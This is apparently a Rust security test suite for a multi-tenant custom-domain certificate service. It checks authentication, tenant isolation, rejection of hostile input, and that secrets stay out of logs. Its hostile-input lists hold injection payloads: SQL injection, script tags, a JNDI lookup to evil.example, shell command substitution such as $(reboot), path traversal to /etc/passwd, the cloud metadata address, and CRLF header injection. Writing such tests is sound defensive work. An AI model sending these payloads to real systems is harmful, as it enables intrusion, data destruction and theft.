//! A tenant can neither claim, move nor read another tenant's hostnames,
//! orders or requests; every hostile input ends in a clear 4xx with nothing
//! changed; and no secret reaches a log line or a response.

use std::sync::Arc;

use custom_domains::domain::DomainName;
use custom_domains::App;
use serde_json::Value;

use crate::support::*;

#[tokio::test]
async fn requests_without_a_valid_token_are_refused_on_every_route() {
    let t = tenant().start().await;
    let forged = {
        let other = local_server::LocalJwt::new(b"not the local signing key");
        other.mint("tenant_id", &t.org, 600)
    };
    let expired = local_jwt().mint("tenant_id", &t.org, 0);
    let status_url = t.status_url("0123456789abcdef0123456789abcdef");
    let routes = [
        ("POST", t.start_url(), t.body()),
        ("POST", t.complete_url(), t.body()),
        ("POST", t.request_url(), t.request_body()),
        ("GET", status_url, String::new()),
        ("DELETE", t.release_url(&t.domain), String::new()),
    ];
    for (method, url, body) in &routes {
        for token in [
            None,
            Some(forged.as_str()),
            Some(expired.as_str()),
            Some("not-a-jwt"),
        ] {
            let (status, err) = request(method, url, body, Some("application/json"), token).await;
            assert_eq!(status, 401, "{method} {url} with {token:?}: {err}");
            assert_eq!(err["code"], "unauthenticated");
        }
    }
    let name = DomainName::parse(&t.domain).unwrap();
    assert!(
        t.app.store.owner_of(&name).await.unwrap().is_none(),
        "a refused request claimed the name"
    );
}

#[tokio::test]
async fn a_tenant_cannot_touch_another_tenants_orders_or_requests() {
    let a = tenant().start().await;
    let b = tenant().start().await;
    let (status, _) = a.start().await;
    assert_eq!(status, 200);
    let name = DomainName::parse(&a.domain).unwrap();
    let before = a.app.store.load_order(&name).await.unwrap().unwrap();

    // B's token on A's organisation: refused before anything is read.
    for url in [a.start_url(), a.complete_url()] {
        let (status, err) = post(&b.token, &url, &a.body()).await;
        assert_eq!(
            (status, err["code"].as_str()),
            (403, Some("forbidden")),
            "{url}: {err}"
        );
    }
    // B, as itself, asking for A's hostname: taken, and B has no order for it.
    let (status, err) = post(&b.token, &b.start_url(), &a.body()).await;
    assert_eq!(
        (status, err["code"].as_str()),
        (409, Some("domain_taken")),
        "{err}"
    );
    let (status, _) = post(&b.token, &b.complete_url(), &a.body()).await;
    assert_eq!(status, 404);
    // On the ACM path too.
    let (status, err) = post(&b.token, &b.request_url(), &a.request_body()).await;
    assert_eq!(
        (status, err["code"].as_str()),
        (403, Some("forbidden")),
        "{err}"
    );
    let as_b = serde_json::json!({ "domain": a.domain, "workspace_id": b.org }).to_string();
    let (status, err) = post(&b.token, &b.request_url(), &as_b).await;
    assert_eq!(
        (status, err["code"].as_str()),
        (409, Some("domain_taken")),
        "{err}"
    );
    assert_eq!(
        a.app.store.load_order(&name).await.unwrap().unwrap(),
        before
    );
    assert_eq!(
        a.app.store.owner_of(&name).await.unwrap().unwrap().as_str(),
        a.org
    );

    // A's ACM request is A's alone: B cannot read or advance it.
    let c = tenant().start().await;
    let (status, requested) = post(&c.token, &c.request_url(), &c.request_body()).await;
    assert_eq!(status, 200, "{requested}");
    let id = requested["request_id"].as_str().unwrap();
    let (status, err) = get(&b.token, &c.status_url(id)).await;
    assert_eq!(
        (status, err["code"].as_str()),
        (403, Some("forbidden")),
        "{err}"
    );
    let (status, _) = get(&c.token, &c.status_url(id)).await;
    assert_eq!(status, 200);
}

/// The hostile inputs: every one must end in a 4xx with the error shape.
fn hostile_domains() -> Vec<Value> {
    let mut names: Vec<String> = vec![
        "",
        " ",
        ".",
        "..",
        "a..b.com",
        ".example.com",
        "example.com..",
        "-lead.example.com",
        "trail-.example.com",
        "under_score.example.com",
        "*.example.com",
        "*",
        "a.*.example.com",
        "localhost",
        "com",
        "co.uk",
        "github.io",
        "s3.amazonaws.com",
        "eu-west-1.compute.amazonaws.com",
        "127.0.0.1",
        "10.0.0.1",
        "169.254.169.254",
        "0x7f.0.0.1",
        "2130706433",
        "0177.0.0.1",
        "[::1]",
        "::1",
        "::ffff:127.0.0.1",
        "fe80::1%eth0",
        "1.2.3.4.5",
        "example.123",
        "http://example.com",
        "https://shop.example.com/",
        "shop.example.com:443",
        "user@shop.example.com",
        "shop.example.com/path",
        "shop.example.com?x=1",
        "shop.example.com#frag",
        "shop example.com",
        "shop\texample.com",
        "shop.example.com\n",
        "shop.example.com\r\nX-Injected: 1",
        "shop\0.example.com",
        "' OR '1'='1",
        "'; DROP TABLE domains; --",
        "\" OR \"\"=\"",
        "<script>alert(1)</script>.example.com",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}.example.com",
        "../../etc/passwd",
        "..\\..\\windows",
        "%2e%2e%2f",
        "shop%2eexample%2ecom",
        "$(reboot).example.com",
        "`id`.example.com",
        "a;b.example.com",
        "a|b.example.com",
        "a&b.example.com",
        "DOMAIN#x.example.com",
        "x.example.com#OWNER",
        "p\u{0430}ypal.com",
        "\u{0430}pple.com",
        "g\u{043E}\u{043E}gle.com",
        "\u{03B1}mazon.com",
        "m\u{03B9}crosoft.com",
        "xn--80ak6aa92e.com.",
        "xn--.com",
        "xn--zz.com",
        "xn--a.com",
        "xn---.com",
        "\u{FF41}\u{FF42}\u{FF43}\u{3002}\u{FF43}\u{FF4F}\u{FF4D}\u{3002}\u{0301}",
        "\u{202E}moc.elpmaxe",
        "example\u{200B}.com",
        "\u{FEFF}example.com",
        "e\u{0301}\u{0301}\u{0301}.com",
        "platform.example",
        "app.platform.example",
        "evil.app.platform.example",
        "ADMIN.PLATFORM.EXAMPLE",
        "\u{1F600}.com",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    names.push(format!("{}.com", "a".repeat(64)));
    names.push(format!("{}com", "abcdefghi.".repeat(26)));
    names.push("a.".repeat(130));
    names.push("x".repeat(20_000));
    let mut values: Vec<Value> = names.into_iter().map(Value::String).collect();
    values.extend([
        Value::Null,
        Value::Bool(true),
        serde_json::json!(42),
        serde_json::json!(["a.com"]),
        serde_json::json!({"a": 1}),
    ]);
    values
}

/// Bodies that are wrong before any hostname is read.
fn hostile_bodies() -> Vec<(String, Option<&'static str>)> {
    let json = Some("application/json");
    vec![
        (String::new(), json),
        ("{".into(), json),
        ("null".into(), json),
        ("[]".into(), json),
        ("\"shop.example.com\"".into(), json),
        ("{\"domain\": \"shop.example.com\",}".into(), json),
        (
            "{\"domain\": \"shop.example.com\", \"domain\": \"evil.example.com\", \"x\": 1}".into(),
            json,
        ),
        ("{\"Domain\": \"shop.example.com\"}".into(), json),
        (
            "{\"domain\": \"shop.example.com\", \"__proto__\": {}}".into(),
            json,
        ),
        (format!("{}1{}", "[".repeat(5000), "]".repeat(5000)), json),
        (
            format!("{{\"domain\": \"{}\"}}", "a".repeat(17 * 1024)),
            json,
        ),
        (
            "domain=shop.example.com".into(),
            Some("application/x-www-form-urlencoded"),
        ),
        (
            "{\"domain\": \"shop.example.com\"}".into(),
            Some("text/plain"),
        ),
        (
            "{\"domain\": \"shop.example.com\"}".into(),
            Some("application/xml"),
        ),
        ("\u{FEFF}{\"domain\": \"shop.example.com\"}".into(), json),
        ("{\"domain\": \"\\ud800.example.com\"}".into(), json),
    ]
}

#[tokio::test]
async fn hostile_inputs_end_in_a_4xx_and_change_nothing() {
    // A table of its own, so "nothing changed" means "the table is empty".
    let table = unique("hostile-");
    let sdk = sdk_config(None).await;
    let ddb = aws_sdk_dynamodb::Client::new(&sdk);
    create_table(&ddb, &table).await;
    let app = App::new(config(&[("DYNAMODB_TABLE", table.as_str())]), &sdk).unwrap();
    let base = serve(Arc::new(app)).await;
    let org = unique("org-");
    let token = token_for(&org);
    let start = format!("{base}/api/domain/start-certificate/{org}");
    let request_url = format!("{base}/domains/request");

    let mut cases = 0;
    let mut check = |what: String, (status, body): (u16, Value)| {
        assert!((400..500).contains(&status), "{what}: {status} {body}");
        assert_eq!(body["status"], "error", "{what}");
        assert!(
            body["code"].is_string() && body["message"].is_string(),
            "{what}: {body}"
        );
        cases += 1;
    };
    for domain in hostile_domains() {
        let body = serde_json::json!({ "domain": domain }).to_string();
        check(format!("start {domain}"), post(&token, &start, &body).await);
        let body = serde_json::json!({ "domain": domain, "workspace_id": org }).to_string();
        check(
            format!("request {domain}"),
            post(&token, &request_url, &body).await,
        );
    }
    for (body, content_type) in hostile_bodies() {
        let what = format!(
            "body {:?} as {content_type:?}",
            body.chars().take(60).collect::<String>()
        );
        check(
            what.clone(),
            request("POST", &start, &body, content_type, Some(&token)).await,
        );
        check(
            what,
            request("POST", &request_url, &body, content_type, Some(&token)).await,
        );
    }
    for org_id in [
        "a%20b",
        "org%00",
        "x".repeat(65).as_str(),
        "..%2F..%2Fadmin",
        "org%27%3B--",
        "%F0%9F%98%80",
    ] {
        let url = format!("{base}/api/domain/start-certificate/{org_id}");
        check(
            format!("org {org_id}"),
            post(&token, &url, "{\"domain\": \"shop.example.com\"}").await,
        );
    }
    for id in [
        "..%2F..%2Fetc",
        "x".repeat(200).as_str(),
        "%27%20OR%201=1",
        "%00",
    ] {
        let url = format!("{base}/domains/status/{id}?domain=shop.example.com");
        check(format!("request id {id}"), get(&token, &url).await);
    }
    for query in [
        "",
        "?domain=",
        "?domain=1.2.3.4",
        "?domain=%00",
        "?domain=*.example.com",
    ] {
        let url = format!("{base}/domains/status/0123456789abcdef0123456789abcdef{query}");
        check(format!("query {query:?}"), get(&token, &url).await);
    }
    assert!(cases >= 100, "only {cases} hostile cases");
    let items = ddb.scan().table_name(&table).send().await.unwrap().count;
    assert_eq!(items, 0, "a hostile input wrote to the table");
    println!("hostile cases: {cases}");
}

/// A full flow on each path, then: no private key, account key or token in
/// any log line of this process, nor in any answer.
#[tokio::test]
async fn no_secret_reaches_a_log_line_or_a_response() {
    let t = tenant().start().await;
    let (start, (status, done)) = t.start_and_complete().await;
    assert_eq!(status, 200, "{done}");
    let (_, requested) = post(&t.token, &t.request_url(), &t.request_body()).await;
    let answers = format!("{start}{done}{requested}");

    let served = t
        .app
        .store
        .load_hostname(&DomainName::parse(&t.domain).unwrap())
        .await
        .unwrap()
        .served
        .unwrap();
    let sealed_key = served.certificate.sealed_key;
    let logs = logs();
    assert!(
        logs.contains(&t.domain),
        "the flow's logs were not captured"
    );
    for (what, secret) in [
        ("a private key", "PRIVATE KEY"),
        ("ACME account credentials", "key_pkcs8"),
        ("a bearer token", t.token.as_str()),
        ("a token's signature", t.token.rsplit('.').next().unwrap()),
        ("a sealed key", sealed_key.as_str()),
    ] {
        assert!(!logs.contains(secret), "{what} was logged");
        assert!(!answers.contains(secret), "{what} was answered");
    }
}
